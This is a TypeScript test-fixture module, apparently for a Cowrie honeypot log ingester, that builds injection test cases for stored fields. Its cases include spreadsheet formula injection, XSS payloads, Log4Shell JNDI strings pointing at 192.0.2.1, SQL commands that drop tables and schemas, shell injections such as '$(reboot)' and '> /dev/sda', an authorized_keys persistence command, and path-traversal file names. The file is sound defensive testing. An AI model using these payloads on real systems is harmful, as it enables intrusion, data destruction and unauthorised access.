import { event, eventAt, stored, storedValues, type Draft, type Stored } from "./build.ts";

/** Rows 46 to 62: text that means something to a spreadsheet, a page, a database, a shell or a file system. */
export function injectionCases(): Draft[] {
  return [...spreadsheet(), ...markup(), ...templates(), ...sql(), ...wildcards(), ...paths(), ...hashes()];
}

function spreadsheet(): Draft[] {
  return [
    storedValues(46, "formulas", "username", [
      "=cmd|' /C calc'!A0",
      "+1",
      "-1",
      "@SUM(1+1)",
      '=HYPERLINK("http://192.0.2.1/")',
      "|x",
    ]),
    storedValues(47, "formulas behind a tab, a carriage return, a line end, a blank", "username", [
      "\t=1",
      "\r=1",
      "\n=1",
      " =1",
    ]),
    storedValues(47, "the full-width signs of formulas", "username", [
      "\uff1d1",
      "\uff0b1",
      "\uff0d1",
      "\uff201",
    ]),
    storedValues(48, "quotes, separators and line ends", "username", [
      'a","b\n',
      '"',
      '""',
      ",",
      ";",
      "a\tb",
      'a"\r\n"b',
      "\ufeff",
    ]),
  ];
}

function markup(): Draft[] {
  const download = { eventid: "cowrie.session.file_download" };
  return [
    storedValues(49, "a script", "username", [
      "<script>alert(1)</script>",
      "<svg onload=alert(1)>",
      "&lt;script&gt;",
      "<ScRiPt\n>",
    ]),
    storedValues(50, "out of an attribute", "password", [
      '"><img src=x onerror=alert(1)>',
      "' onmouseover='alert(1)",
      "` onload=alert(1)",
    ]),
    storedValues(51, "out of a script block, a comment, a CDATA section", "input", [
      "</script>",
      "<!--",
      "-->",
      "]]>",
      "</style>",
      "<?php",
    ]),
    storedValues(
      52,
      "addresses that no reader may follow",
      "url",
      [
        "javascript:alert(1)",
        "data:text/html;base64,PHNjcmlwdD4=",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "file:///etc/passwd",
        "http://user:secret@192.0.2.1/",
        "//192.0.2.1/x",
      ],
      download,
    ),
    storedValues(53, "Markdown", "input", [
      "![x](http://192.0.2.1/x.png)",
      "[x](javascript:alert(1))",
      "a|b",
      "| a | b |\n|---|---|",
      "# heading",
      "```\ncode\n```",
      "<http://192.0.2.1/>",
      "*a* _b_ ~c~ `d`",
      "http://192.0.2.1/x.sh",
    ]),
  ];
}

function templates(): Draft[] {
  return [
    storedValues(54, "templates and formats", "username", [
      "%s%n",
      "${7*7}",
      "{{7*7}}",
      "$&",
      "$1",
      "<%= 7*7 %>",
      "#{7*7}",
      "{0}",
      "%x%x",
      "\\$`",
    ]),
    storedValues(55, "Log4Shell", "username", [
      "${jndi:ldap://192.0.2.1/a}",
      "${${lower:j}ndi:ldap://192.0.2.1/a}",
    ]),
    storedValues(55, "Log4Shell in a client's version", "version", ["SSH-2.0-${jndi:dns://192.0.2.1/a}"], {
      eventid: "cowrie.client.version",
    }),
  ];
}

function sql(): Draft[] {
  return [
    storedValues(56, "SQL", "username", [
      "'; DROP TABLE raw_events;--",
      "' OR '1'='1",
      "\\'; select 1; --",
      "$$; drop schema cowrie cascade; $$",
      "x'00'",
      ":username",
      "?1",
      "@p",
    ]),
    storedValues(56, "text as COPY reads it", "input", ["\\.", "\\N", "a\tb", "a\\", "\\x00", "a\\\nb"]),
    storedValues(57, "SQL in the sensor's name", "sensor", [
      'x"; DROP TABLE raw_events; --',
      "x'; --",
      "[x]",
      "`x`",
      "",
    ]),
    stored(57, "SQL in the event id and the session id", [
      {
        line: event({
          eventid: "cowrie.x'; DROP TABLE raw_events;--",
          session: "a'; DELETE FROM sources;--",
        }),
        flags: "unknown_event",
        columns: {
          event_type: "cowrie.x'; DROP TABLE raw_events;--",
          session_id: "a'; DELETE FROM sources;--",
        },
      },
    ]),
  ];
}

function wildcards(): Draft[] {
  const command = { eventid: "cowrie.command.input" };
  return [
    storedValues(58, "wildcards", "username", [
      "%",
      "_",
      "(a+)+$",
      "\\%",
      "*",
      "[a-z]",
      "?",
      ".*",
      "%25",
      "^.*$",
    ]),
    storedValues(58, "a long text for a slow pattern", "input", [`${"a".repeat(5_000)}!`]),
    storedValues(
      59,
      "shell",
      "input",
      [
        "$(reboot)",
        "`reboot`",
        "; reboot",
        "&& reboot",
        "| sh",
        "> /dev/sda",
        "\\\nreboot",
        "!!",
        "~",
        "-rf",
        "--",
      ],
      command,
    ),
    storedValues(
      59,
      "a key for authorized_keys",
      "input",
      ["echo ssh-ed25519 AAAA x >> ~/.ssh/authorized_keys"],
      command,
    ),
  ];
}

function paths(): Draft[] {
  const download = { eventid: "cowrie.session.file_download", url: "http://192.0.2.1/x" };
  const files = (field: string, odd: string[], plain: string[]): Stored[] => [
    ...odd.map((value, index) => ({ line: eventAt(index, { ...download, [field]: value }), flags: "path" })),
    ...plain.map((value, index) => ({ line: eventAt(index + 30, { ...download, [field]: value }) })),
  ];
  return [
    stored(
      60,
      "outfile that leaves its folder",
      files(
        "outfile",
        [
          "../../etc/passwd",
          "..\\..\\x",
          "dl/../../x",
          "..",
          "x/..",
          "/dev/stdin",
          "/proc/self/fd/0",
          "/var/../etc/passwd",
        ],
        ["var/lib/cowrie/downloads/x", "a..b", "...", "x/...y/z", "/devices/x", "%2e%2e/x", "dl/20240102_x"],
      ),
    ),
    stored(60, "destfile that leaves its folder", files("destfile", ["/dev/shm/x", "../x"], ["/tmp/x", ""])),
    stored(
      60,
      "filename of an upload that leaves its folder",
      files("filename", ["../../x", "/proc/1/mem"], ["x.sh", "~/x", "-rf"]),
    ),
    stored(
      60,
      "a file name with control characters",
      files("filename", ["a\nb", "\u001b[2J", "a\tb", "\u007f"], ["a b"]),
    ),
    stored(60, "a path that is no string", [{ line: event({ ...download, outfile: null }) }]),
    stored(62, "a recording whose name has control characters", [
      { line: eventAt(1, { eventid: "cowrie.log.closed", ttylog: "a\u0000b" }), flags: "nul path" },
      { line: eventAt(2, { eventid: "cowrie.log.closed", ttylog: "a\nb" }), flags: "path" },
      { line: eventAt(3, { eventid: "cowrie.log.closed", ttylog: "../../x" }), flags: "path" },
      { line: eventAt(4, { eventid: "cowrie.log.closed", ttylog: "var/lib/cowrie/tty/0a" }) },
    ]),
  ];
}

function hashes(): Draft[] {
  const good = "0123456789abcdef".repeat(4);
  const bad = [
    "../x",
    good.slice(1),
    `${good}0`,
    good.toUpperCase(),
    "g".repeat(64),
    "",
    `${good}\n`,
    ` ${good}`,
  ];
  const line = (eventid: string, shasum: string | number | null, second: number): string =>
    eventAt(second, { eventid, shasum });
  return [
    stored(61, "hashes of a download", [
      ...bad.map((shasum, index) => ({
        line: line("cowrie.session.file_download", shasum, index),
        flags: "bad_hash",
        columns: { shasum },
      })),
      { line: line("cowrie.session.file_download", good, 30), columns: { shasum: good } },
      { line: line("cowrie.session.file_download", null, 31), columns: { shasum: null } },
    ]),
    stored(61, "hashes of an upload and a recording", [
      { line: line("cowrie.session.file_upload", "x", 1), flags: "bad_hash", columns: { shasum: "x" } },
      { line: line("cowrie.log.closed", "x", 2), flags: "bad_hash", columns: { shasum: "x" } },
      { line: line("cowrie.log.closed", good, 3), columns: { shasum: good } },
    ]),
    stored(61, "a hash where none is due", [
      { line: line("cowrie.login.failed", "x", 1), columns: { shasum: "x" } },
    ]),
    stored(61, "a hash that is a number", [
      { line: line("cowrie.session.file_download", 5, 1), flags: "type", columns: { shasum: null } },
    ]),
    stored(
      61,
      "a hash of a numbered event",
      [{ line: line("COW0007", "x", 1), flags: "bad_hash", columns: { shasum: "x" } }],
      {
        note: "COW0007 is a download.",
      },
    ),
    stored(61, "a hash of 513 characters", [
      {
        line: line("cowrie.session.file_download", "0".repeat(513), 1),
        flags: "bad_hash",
        columns: { shasum: null },
      },
    ]),
  ];
}
